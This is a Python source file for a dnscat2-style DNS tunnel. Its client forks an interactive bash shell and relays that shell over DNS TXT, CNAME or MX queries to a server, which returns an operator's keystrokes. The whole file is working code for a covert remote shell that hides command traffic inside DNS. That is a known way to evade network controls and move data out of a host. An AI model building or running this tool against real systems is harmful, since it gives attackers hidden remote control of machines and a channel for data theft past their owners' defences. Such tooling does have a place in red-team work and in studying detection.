"""A tunnel of terminal lines in DNS questions and answers, in the manner of dnscat2: one UDP port, polling.

settings: role ("server": its terminal is this program's; "client": its shell is a new one), address, port,
domain, kind ("TXT", "CNAME", "MX"),
delay_s (between polls without news), longest (bytes of data in a question), seed

A message is a packet id (2 bytes), a kind (1), a session (2), a sequence number, an acknowledgement (2 each)
and data.
A question carries it in hexadecimal labels below the domain, an answer in hexadecimal text or name.
"""

import json
import os
import pty
import random
import select
import socket
import struct
import sys
import time

HEAD = struct.Struct(">HBHHH")
MESSAGE = 1
TYPES = {"TXT": 16, "CNAME": 5, "MX": 15}
END = b"\x04closed"


def labels(text, domain):
    parts = [text[at : at + 62] for at in range(0, len(text), 62)] + domain.split(".")
    return b"".join(bytes([len(part)]) + part.encode() for part in parts) + b"\0"


def name_at(packet, at):
    """Labels of a name without compression, and where it ends."""
    parts = []
    while packet[at]:
        parts.append(packet[at + 1 : at + 1 + packet[at]].decode())
        at += 1 + packet[at]
    return parts, at + 1


class End:
    """One end: what is to be sent, what was acknowledged.  One message is under way at a time."""

    def __init__(self, draw, session):
        self.draw, self.session = draw, session
        self.pending = b""
        self.sent = 0  # sequence number of the first pending byte, as TCP counts
        self.received = 0

    def message(self, longest):
        data = self.pending[:longest]
        return (
            HEAD.pack(
                self.draw.getrandbits(16), MESSAGE, self.session, self.sent & 0xFFFF, self.received & 0xFFFF
            )
            + data
        )

    def take(self, message):
        """What is new in a message of the other end."""
        _, _, self.session, sequence, acknowledged = HEAD.unpack_from(message)
        done = (acknowledged - self.sent) & 0xFFFF
        if done <= len(self.pending):
            self.pending, self.sent = self.pending[done:], self.sent + done
        if sequence != self.received & 0xFFFF:
            return b""
        data = message[HEAD.size :]
        self.received += len(data)
        return data


def client(address, port, domain, kind, delay_s, longest, seed):
    draw = random.Random(seed)
    end = End(draw, draw.getrandbits(16))
    line = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    line.connect((address, port))
    child, shell = pty.fork()
    if child == 0:
        os.execvp("bash", ["bash", "-i"])
    depth = len(domain.split("."))
    alive = True
    while True:
        if alive and select.select([shell], [], [], 0.01)[0]:
            try:
                end.pending += os.read(shell, 65536)
            except OSError:
                end.pending, alive = end.pending + END, False
        question = labels(end.message(longest).hex(), domain) + struct.pack(">HH", TYPES[kind], 1)
        number = draw.getrandbits(16)
        line.send(struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + question)
        until = time.monotonic() + 2
        news = b""
        while (left := until - time.monotonic()) > 0 and select.select([line], [], [], left)[0]:
            try:
                answer = line.recv(4096)
            except ConnectionError:
                return
            if struct.unpack_from(">H", answer)[0] == number:
                news = end.take(message_of(answer, kind, depth))
                break
        if news:
            os.write(shell, news)
        if not alive and not end.pending:
            return
        if not end.pending and not news:
            select.select([shell] if alive else [], [], [], delay_s)


def message_of(answer, kind, depth):
    _, at = name_at(answer, 12)
    at += 4 + 2 + 8  # question's end; name pointer, type, class, time to live
    at += 2  # length
    if kind == "TXT":
        return bytes.fromhex(answer[at + 1 : at + 1 + answer[at]].decode())
    parts, _ = name_at(answer, at + (2 if kind == "MX" else 0))
    return bytes.fromhex("".join(parts[:-depth]))


def server(address, port, domain, kind, delay_s, longest, seed):
    end = End(random.Random(seed), 0)
    depth = len(domain.split("."))
    line = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    line.bind((address, port))
    while True:
        for ready in select.select([line, 0], [], [])[0]:
            if ready == 0:
                typed = os.read(0, 65536)
                end.pending += typed
                continue
            question, peer = line.recvfrom(4096)
            parts, at = name_at(question, 12)
            news = end.take(bytes.fromhex("".join(parts[:-depth])))
            os.write(1, news)
            text = end.message(longest if kind != "TXT" else 110).hex()
            data = {
                "TXT": lambda text=text: bytes([len(text)]) + text.encode(),
                "CNAME": lambda text=text: labels(text, domain),
                "MX": lambda text=text: b"\0\x0a" + labels(text, domain),
            }[kind]()
            head = question[:2] + struct.pack(">HHHHH", 0x8400, 1, 1, 0, 0)
            record = struct.pack(">HHHIH", 0xC00C, TYPES[kind], 1, 60, len(data)) + data
            line.sendto(head + question[12 : at + 4] + record, peer)
            if news.endswith(END):
                return


settings = json.loads(sys.argv[1])
{"client": client, "server": server}[settings.pop("role")](**settings)
